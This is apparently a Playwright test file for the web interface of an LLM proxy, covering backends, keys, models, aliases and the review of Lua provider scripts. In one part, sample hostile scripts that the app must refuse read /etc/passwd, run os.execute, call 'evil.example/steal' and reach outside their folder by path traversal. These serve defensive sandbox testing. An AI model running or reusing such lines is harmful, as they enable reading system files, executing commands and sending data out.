import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { AxeBuilder } from '@axe-core/playwright';
import { expect } from '@playwright/test';
import type { Page } from '@playwright/test';
import { strToU8, zipSync } from 'fflate';

import { startUpstream } from '../support/scripted-upstream.ts';
import { dropFile, test } from './parley-server.ts';
import type { ParleyServer } from './parley-server.ts';

const yaml = `llm:
  backends:
    # the first
    - { name: alpha, type: own, priority: 1 } # mine
    - { name: beta, type: groq, api_key: [ env:BETA_ONE, env:BETA_TWO ], priority: 2 }
`;

const own = (url: string) => `return {
  name = "Own House", dialect = "openai_completions", base_url = "${url}", api_key = { env = "PATH" },
  models = { { id = "one", name = "Model One" }, { id = "two" } },
}`;

/** Two backends before the page is opened; the script of the first lies there and was never reviewed. */
async function setUp(server: ParleyServer, page: Page) {
  const upstream = await startUpstream();
  mkdirSync(join(server.dataDir, 'providers'), { recursive: true });
  writeFileSync(join(server.dataDir, 'providers/own.lua'), own(upstream.url));
  writeFileSync(join(server.dataDir, 'parley.yaml'), yaml);
  await page.goto(server.ui);
  await page.getByRole('navigation').getByRole('link', { name: 'Providers' }).click();
  await expect(page.getByRole('listitem', { name: 'alpha' })).toBeVisible();
  return { upstream, text: () => readFileSync(join(server.dataDir, 'parley.yaml'), 'utf8') };
}

const row = (page: Page, name: string) => page.getByRole('listitem', { name, exact: true });

async function choose(page: Page, name: string, item: string): Promise<void> {
  await row(page, name)
    .getByRole('button', { name: `More for ${name}` })
    .click();
  await page.getByRole('menuitem', { name: item }).click();
}

async function expectAccessible(page: Page): Promise<void> {
  const { violations } = await new AxeBuilder({ page }).analyze();
  expect(violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' ')}`)).toEqual([]);
}

test('backends are moved, copied, switched off, and removed with a way back', async ({ page, server }) => {
  const { text } = await setUp(server, page);
  await expect(row(page, 'beta')).toContainText('key problem');
  await expectAccessible(page);

  await row(page, 'beta').getByRole('button', { name: 'Move beta' }).press('ArrowUp');
  await expect.poll(text).toContain('name: alpha, type: own, priority: 2 } # mine');
  const names = page.getByRole('list', { name: 'Backends' }).getByRole('heading');
  await expect(names.first()).toContainText('beta');
  await row(page, 'beta').getByRole('button', { name: 'Move beta' }).dragTo(row(page, 'alpha'));
  await expect(names.first()).toContainText('alpha');

  await choose(page, 'alpha', 'Disable');
  await expect(row(page, 'alpha')).toContainText('disabled');
  expect(text()).toContain('enabled: false');
  await choose(page, 'alpha', 'Enable');
  await choose(page, 'alpha', 'Duplicate');
  await expect(row(page, 'alpha-2')).toBeVisible();

  const before = text();
  await choose(page, 'beta', 'Remove');
  await expect(row(page, 'beta')).toBeHidden();
  expect(text()).not.toContain('beta');
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(row(page, 'beta')).toBeVisible();
  expect(text()).toBe(before);
});

test('a test shows its steps, and says why a broken backend does not work', async ({ page, server }) => {
  await setUp(server, page);
  const alpha = row(page, 'alpha');
  await alpha.getByRole('button', { name: 'Test' }).click();
  await expect(alpha.getByRole('status')).toContainText('Works');
  await expect(alpha.getByRole('status')).toContainText('2 models');
  await expect(alpha.getByRole('listitem').filter({ hasText: 'Reachable' })).toContainText('done');
  const beta = row(page, 'beta');
  await beta.getByRole('button', { name: 'Test' }).click();
  await expect(beta.getByRole('status')).toContainText('BETA_TWO');
  await expect(beta.getByRole('status').getByRole('listitem').filter({ hasText: 'Key' })).toContainText(
    'failed',
  );
});

test('keys are shown by tier, added beside the others and removed one by one', async ({ page, server }) => {
  const { text, upstream } = await setUp(server, page);
  await choose(page, 'beta', 'Keys…');
  const keys = page.getByRole('dialog', { name: 'Keys of beta' });
  await expect(keys.getByRole('listitem', { name: 'from env BETA_ONE' })).toContainText('not set');
  await expect(keys).toContainText('from env GROQ_API_KEY');
  await expectAccessible(page);
  await keys.getByLabel('Where it is kept').selectOption('in an environment variable');
  await keys.getByLabel('Name of the variable').fill('BETA_THREE');
  await keys.getByRole('button', { name: 'Add key' }).click();
  await expect(keys.getByRole('listitem', { name: 'from env BETA_THREE' })).toBeVisible();
  expect(text()).toContain('[ env:BETA_ONE, env:BETA_TWO, env:BETA_THREE ]');
  await keys.getByRole('button', { name: 'Remove the key from env BETA_TWO' }).click();
  await expect.poll(text).toContain('[ env:BETA_ONE, env:BETA_THREE ]');

  await keys.getByLabel('Where it is kept').selectOption('as text in parley.yaml');
  await keys.getByLabel('New key').fill('sk-plain-text');
  await expect(keys.getByRole('button', { name: 'Add key' })).toBeDisabled();
  await keys.getByRole('checkbox').check();
  await keys.getByRole('button', { name: 'Add key' }).click();
  await expect(keys.getByRole('listitem', { name: 'a literal key' })).toContainText('set');
  await expect(page.locator('body')).not.toContainText('sk-plain-text');
  await keys.getByRole('button', { name: 'Close' }).click();

  await choose(page, 'alpha', 'Keys…');
  const alphas = page.getByRole('dialog', { name: 'Keys of alpha' });
  await alphas.getByLabel('A key to try').fill('sk-tried');
  await alphas.getByRole('button', { name: 'Test the key typed' }).click();
  await expect(alphas.getByRole('status')).toContainText('Works');
  expect(upstream.requests.at(-1)?.headers.authorization).toBe('Bearer sk-tried');
});

test('a provider is found in the catalogue, and a server of one’s own is added by its address', async ({
  page,
  server,
}) => {
  const { text, upstream } = await setUp(server, page);
  await page.getByRole('button', { name: 'Add backend' }).click();
  const dialog = page.getByRole('dialog', { name: 'Add a backend' });
  await expect(dialog.getByRole('list', { name: 'Providers' }).getByRole('listitem')).not.toHaveCount(0);
  await expectAccessible(page);
  await dialog.getByLabel('Search providers').fill('another');
  await expect(dialog).toContainText('No provider matches.');
  await dialog.getByLabel('Search providers').fill('custom');
  await dialog.getByRole('button', { name: /Another server/ }).click();
  const form = page.getByRole('dialog', { name: /^Add / });
  await expect(form.getByRole('button', { name: 'Add', exact: true })).toBeDisabled();
  await form.getByLabel('Name').fill('box');
  await form.getByLabel('Address').fill(`${upstream.url}/v1`);
  await form.getByRole('button', { name: 'Add', exact: true }).click();
  await expect(row(page, 'box')).toContainText('/v1');
  expect(text()).toContain('{ name: box, type: custom');
});

test('an archive of a script and its models is reviewed, tried without a trace, and imported', async ({
  page,
  server,
}) => {
  const { upstream } = await setUp(server, page);
  const script = `return { dialect = "openai_completions", base_url = "${upstream.url}", api_key = config.api_key,
    models = load_models("models/zipped.json") }`;
  const zip = zipSync({
    'pack/zipped.lua': strToU8(script),
    'pack/models/zipped.json': strToU8('[{ "id": "small" }, { "id": "large" }, { "id": "huge" }]'),
  });
  await page
    .getByLabel('Provider scripts', { exact: true })
    .setInputFiles({ name: 'pack.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) });
  const review = page.getByRole('dialog', { name: 'Import zipped.lua?' });
  await expect(review).toContainText('small, large, huge');
  await expect(review).toContainText('models/zipped.json');
  await expect(review.getByText(/^[0-9a-f]{64}$/)).toBeVisible();
  await expectAccessible(page);
  await review.getByText('Test with a key before importing').click();
  await review.getByLabel('Key for the test (optional)').fill('sk-dry');
  await review.getByRole('button', { name: 'Test with this key' }).click();
  await expect(review.getByRole('status')).toContainText('3 models');
  expect(upstream.requests.at(-1)?.headers.authorization).toBe('Bearer sk-dry');
  expect(existsSync(join(server.dataDir, 'providers/zipped.lua'))).toBe(false);
  await review.getByRole('button', { name: 'Import' }).click();
  await expect(row(page, 'zipped')).toContainText('3 models');
  expect(existsSync(join(server.dataDir, 'providers/models/zipped.json'))).toBe(true);
});

const hostile = {
  'asks for a file of the system': [
    'reader.lua',
    'local f = io.open("/etc/passwd") return { base_url = f:read() }',
    'io',
  ],
  'runs a command': ['runner.lua', 'os.execute("id") return {}', 'os'],
  'sends something away while it is read': [
    'sender.lua',
    'http.get("https://evil.example/steal") return {}',
    'sends a request while it is loaded',
  ],
  'reads beside its folder': [
    'climber.lua',
    'return { dialect = "openai_completions", base_url = "https://a.example", models = load_models("../parley.yaml") }',
    'must lie beside the script',
  ],
} as const;

for (const [what, [file, source, reason]] of Object.entries(hostile)) {
  test(`a script that ${what} is refused`, async ({ page, server }) => {
    await setUp(server, page);
    await dropFile(page, file, source);
    const dialog = page.getByRole('alertdialog', { name: `${file} was refused` });
    await expect(dialog).toContainText(reason);
    await dialog.getByRole('button', { name: 'Close' }).click();
    expect(existsSync(join(server.dataDir, 'providers', file))).toBe(false);
  });
}

test('a script is approved, loses a host, which its calls then name, and is given it again', async ({
  page,
  server,
}) => {
  const { upstream } = await setUp(server, page);
  test.slow();
  const host = new URL(upstream.url).host;
  await choose(page, 'alpha', 'Script and grants…');
  const script = page.getByRole('dialog', { name: 'Script own.lua' });
  await script.getByRole('button', { name: 'Review' }).click();
  const approval = page.getByRole('dialog', { name: 'Approve own.lua as it is now?' });
  await expect(approval).toContainText(host);
  await approval.getByRole('button', { name: 'Approve' }).click();
  await expect(script.getByRole('list', { name: 'What it may use' })).toContainText(host);
  await expectAccessible(page);

  await script.getByRole('button', { name: `Revoke ${host}` }).click();
  await expect(script.getByRole('button', { name: `Revoke ${host}` })).toBeHidden();
  await script.getByRole('button', { name: 'Close' }).click();
  const asked = upstream.requests.length;
  await row(page, 'alpha').getByRole('button', { name: 'Test' }).click();
  await expect(row(page, 'alpha').getByRole('status')).toContainText(host);
  expect(upstream.requests).toHaveLength(asked);

  await choose(page, 'alpha', 'Script and grants…');
  await script.getByLabel('Host, e.g. api.example.com').fill(host);
  await script.getByRole('button', { name: 'Grant', exact: true }).click();
  await expect(script.getByRole('button', { name: `Revoke ${host}` })).toBeVisible();
  await script.getByRole('button', { name: 'Close' }).click();
  await row(page, 'alpha').getByRole('button', { name: 'Test' }).click();
  await expect(row(page, 'alpha').getByRole('status')).toContainText('Works');
});

test('a script that was changed asks anew, showing what is different, and can be disabled', async ({
  page,
  server,
}) => {
  test.slow();
  const { upstream } = await setUp(server, page);
  const script = page.getByRole('dialog', { name: 'Script own.lua' });
  const approval = page.getByRole('dialog', { name: 'Approve own.lua as it is now?' });
  await choose(page, 'alpha', 'Script and grants…');
  await script.getByRole('button', { name: 'Review' }).click();
  await approval.getByRole('button', { name: 'Approve' }).click();
  await expect(script.getByRole('list', { name: 'What it may use' })).toContainText('PATH');
  await script.getByRole('button', { name: 'Close' }).click();

  writeFileSync(
    join(server.dataDir, 'providers/own.lua'),
    own(upstream.url).replace('Own House', 'New House'),
  );
  await expect(row(page, 'alpha')).toContainText('The script was changed since you approved it');
  await row(page, 'alpha').getByRole('button', { name: 'Look at the change' }).click();
  await script.getByRole('button', { name: 'Review' }).click();
  const changes = approval.getByRole('group', { name: 'Changes since the version you approved' });
  await expect(changes).toContainText('New House');
  await expect(changes).toContainText('Own House');
  await approval.getByRole('button', { name: 'Approve' }).click();
  await script.getByRole('button', { name: 'Disable its backend' }).click();
  await script.getByRole('button', { name: 'Close' }).click();
  await expect(row(page, 'alpha')).toContainText('disabled');
});

test('models are hidden and favoured, and an alias is written in its order', async ({ page, server }) => {
  const { text } = await setUp(server, page);
  await page.getByRole('link', { name: 'Models and aliases' }).click();
  await expect(page.getByRole('navigation').getByRole('link', { name: 'Providers' })).toHaveAttribute(
    'aria-current',
    'page',
  );
  await expect(row(page, 'alpha/one')).toBeVisible();
  await page.getByRole('button', { name: 'Hide alpha/one' }).click();
  await expect(row(page, 'alpha/one')).toBeHidden();
  expect(text()).toContain('hidden_models');
  await page.getByRole('button', { name: 'Add alpha/two to favourites' }).click();
  await page.getByLabel('Show', { exact: true }).selectOption('favourites');
  await expect(page.getByText('1 model', { exact: true })).toBeVisible();
  await page.getByLabel('Show', { exact: true }).selectOption('hidden');
  await expect(row(page, 'alpha/one')).toBeVisible();
  await page.getByLabel('Show', { exact: true }).selectOption('all');
  await expectAccessible(page);

  await page.getByRole('button', { name: 'Add alias' }).click();
  const dialog = page.getByRole('dialog', { name: 'New alias' });
  await dialog.getByLabel('Name').fill('fast');
  for (const model of ['gone/x', 'alpha/two']) {
    await dialog.getByLabel('Model to ask').fill(model);
    await dialog.getByRole('button', { name: 'Add model' }).click();
  }
  await dialog.getByRole('button', { name: 'Move alpha/two up' }).click();
  await dialog.getByRole('button', { name: 'Save' }).click();
  const alias = row(page, 'fast');
  await expect(alias).toContainText('no backend named gone');
  expect(text()).toContain('fast: [ alpha/two, gone/x ]');
  expect(text()).toContain('# mine');
  await alias.getByRole('button', { name: 'Remove fast' }).click();
  await expect(alias).toBeHidden();
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(alias).toBeVisible();
});
